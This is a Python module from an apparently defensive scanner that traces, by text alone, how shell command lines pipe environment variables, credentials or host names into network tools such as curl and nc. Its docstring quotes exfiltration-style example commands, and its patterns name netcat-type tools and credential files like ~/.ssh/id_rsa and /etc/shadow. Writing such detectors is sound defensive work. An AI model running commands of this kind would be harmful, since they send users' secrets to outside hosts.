"""What a shell command line sends to a network tool: data flow inside one command text.

``os.system("env | curl --data-binary @- https://...")`` starts ``env``, but what it
does is send the environment away. The engine judges a process by its program and
its arguments; this module follows the data between the commands of one command
line, by their text only (nothing is run):

* a pipe: ``whoami | base64 | curl -d @- URL`` (filters in between carry the data on);
* a file: ``whoami > /tmp/x; curl -d @/tmp/x URL`` (written, then uploaded);
* a command substitution: ``curl URL/$(whoami)``, ``nslookup `id -un`.example.invalid``;
* a shell variable naming the user or host: ``curl URL/$USER``, ``ping %COMPUTERNAME%.x``.

`sent` gives the kind of data a network tool of the line receives: ``"secret"`` (the
whole environment, a credential helper's output, a credential file's content),
``"host"`` (user, host and system names), or None. Quoting is not parsed: an
operator inside quotes splits the line too, which can only add data flows between
words that a real shell would keep together, and a net tool must still receive them.
"""

from __future__ import annotations

import re
from typing import Literal

from pipwarden.scan import patterns as P
from pipwarden.scan.facts import SECRETS, Label

Kind = Literal["secret", "host"]

#: Statement separators, then pipes (a single "|": "||" is a separator).
_STATEMENTS_RE = re.compile(r"\s*(?:;|&&|\|\||\n)\s*")
_PIPE_RE = re.compile(r"\s*(?<!\|)\|(?!\|)\s*")
#: "> file" / ">> file" / "2> file" / "| tee file" writes what the command prints.
_REDIRECT_RE = re.compile(r"(?:^|\s)\d?>{1,2}\s*(\S+)")
_TEE_RE = re.compile(r"^tee(?:\s+-a)?\s+(\S+)")
#: Command substitutions: $(...) and `...`.
_SUBST_RE = re.compile(r"\$\(([^()]*)\)|`([^`]*)`")
#: Variables holding the user or host name (POSIX, cmd.exe, PowerShell).
_HOST_VARS_RE = re.compile(
    r"(?:\$\{?(?:USER|USERNAME|LOGNAME|HOSTNAME|HOST)\b\}?"
    r"|%(?:USERNAME|COMPUTERNAME|USERDOMAIN|LOGONSERVER)%"
    r"|\$env:(?:USERNAME|COMPUTERNAME|USERDOMAIN)\b)(?![@:])",  # not a login: $USER@host
    re.IGNORECASE,
)
#: Commands that read a file (or several) and print it, possibly transformed.
_READERS = frozenset({"cat", "type", "base64", "xxd", "gzip", "zip", "tar", "head", "tail",
                      "openssl", "gpg", "od", "strings", "less", "more", "get-content", "gc"})  # fmt: skip
#: A network tool reading what it sends from its standard input.
_FROM_STDIN_RE = re.compile(
    r"@-|(?:^|\s)(?:-T|--upload-file)\s+-(?:\s|$)|--post-file[= ]\s*-(?:\s|$)|/dev/stdin"
)
#: A network tool uploading a named file: curl -d @F / -F x=@F / -T F, wget --post-file=F.
_UPLOADS_RE = re.compile(
    r"=?@([^\s;'\"]+)|(?:^|\s)(?:-T|--upload-file)\s+(\S+)|--(?:post|body)-file[= ]\s*(\S+)"
)
#: Host-detail commands with options (RECON_CMD_RE takes most of them bare).
_HOST_CMD_RE = re.compile(
    r"^\s*(?:id|whoami|hostname|uname|groups|users|who)(?:\s+[-/]\w+)*\s*$", re.IGNORECASE
)
#: Files that describe the host's accounts and network.
_HOST_FILES = frozenset({"/etc/passwd", "/etc/group", "/etc/hosts", "/etc/hostname",
                         "/etc/resolv.conf", "/etc/os-release", "/etc/issue"})  # fmt: skip
#: Network tools that send their standard input as they are.
_STDIN_SENDERS = frozenset({"nc", "ncat", "netcat", "telnet", "socat"})
_TOOLS = P.NET_TOOLS | _STDIN_SENDERS


def _program(segment: str) -> str:
    """The program of a simple command, lower case, without path or .exe."""
    words = segment.split()
    while words and (("=" in words[0] and not words[0].startswith("-")) or words[0] == "sudo"):
        words = words[1:]  # VAR=value cmd, sudo cmd
    if not words:
        return ""
    prog = re.split(r"[\\/]", words[0])[-1].lower()
    return prog[:-4] if prog.endswith(".exe") else prog


def _source(segment: str) -> Kind | None:
    """What a command prints, when it prints a secret or host details."""
    command = _REDIRECT_RE.sub(" ", segment).strip()
    recon = P.RECON_CMD_RE.match(command)
    if recon:
        return "secret" if recon.group("env") else "host"
    if P.CRED_CMD_RE.match(command) or P.TOKEN_CMD_RE.match(command):
        return "secret"
    if _HOST_CMD_RE.match(command):
        return "host"
    if _program(command) in _READERS and P.string_labels(command) & SECRETS - {Label.ENV_ALL}:
        return "secret"  # cat ~/.aws/credentials, base64 ~/.ssh/id_rsa
    return None


def _file_kind(path: str) -> Kind | None:
    """What a file holds, by its name: a credential store, or the host's own records."""
    if P.string_labels(path) & SECRETS - {Label.ENV_ALL} or path == "/etc/shadow":
        return "secret"
    return "host" if path in _HOST_FILES else None


def _worst(a: Kind | None, b: Kind | None) -> Kind | None:
    return "secret" if "secret" in (a, b) else a or b


#: What a command substitution stood for, once replaced by one of these words.
_MARKS: dict[Kind | None, str] = {"secret": "\x00secret\x00", "host": "\x00host\x00", None: "X"}


def _substitute(text: str) -> str:
    """`text` with each command substitution replaced by a mark of what it prints."""

    def mark(m: re.Match[str]) -> str:
        inner = m.group(1) if m.group(1) is not None else m.group(2)
        kind: Kind | None = None
        for statement in _STATEMENTS_RE.split(inner):
            kind = _worst(kind, _pipeline_source(statement))
        return _MARKS[kind]

    return _SUBST_RE.sub(mark, text)


def _inline(segment: str) -> Kind | None:
    """Data spelled into a command's own arguments: substitutions and host variables."""
    if _MARKS["secret"] in segment:
        return "secret"
    if _MARKS["host"] in segment or _HOST_VARS_RE.search(segment):
        return "host"
    return None


def _pipeline_source(statement: str) -> Kind | None:
    """What the pipeline of `statement` prints, by its first data source."""
    kind: Kind | None = None
    for segment in _PIPE_RE.split(statement):
        kind = _worst(kind, _source(segment))
    return kind


def sent(text: str) -> Kind | None:
    """The kind of data the command line `text` hands to a network tool, if any."""
    lower = text.lower()
    if not any(tool in lower for tool in _TOOLS):
        return None  # cheap test first: most command lines name no network tool
    files: dict[str, Kind] = {}
    found: Kind | None = None
    for statement in _STATEMENTS_RE.split(_substitute(text)):
        piped: Kind | None = None
        for segment in map(str.strip, _PIPE_RE.split(statement)):
            prog = _program(segment)
            if prog in _TOOLS:
                kind = _inline(segment)
                if piped and (prog in _STDIN_SENDERS or _FROM_STDIN_RE.search(segment)):
                    kind = _worst(kind, piped)
                for m in _UPLOADS_RE.finditer(segment):
                    name = next(g for g in m.groups() if g is not None)
                    kind = _worst(kind, files.get(name) or _file_kind(name))
                found = _worst(found, kind)
                piped = None
                continue
            piped = _worst(piped, _source(segment) or _inline(segment))
            target = _REDIRECT_RE.search(segment) or _TEE_RE.match(segment)
            if target and piped:
                files[target.group(1)] = piped
    return found
